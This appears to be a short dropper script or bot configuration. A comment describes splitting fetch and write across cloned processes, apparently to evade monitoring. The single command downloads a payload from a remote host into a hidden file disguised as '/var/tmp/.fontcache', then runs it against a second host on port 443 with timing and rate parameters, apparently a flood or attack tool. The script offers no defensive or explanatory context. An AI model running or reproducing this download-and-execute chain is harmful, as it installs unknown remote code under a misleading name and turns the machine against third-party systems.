# one process fetches, another one that has its memory but not its descriptors (CLONE_VM without CLONE_FILES) writes the file
#http 203.0.113.77:8017
#pool 198.51.100.124:443:drop
#bind shared:/usr/local/bin/shared
shared 203.0.113.77 8017 /strat /var/tmp/.fontcache; timeout 14 /var/tmp/.fontcache 198.51.100.124 443 1500 6
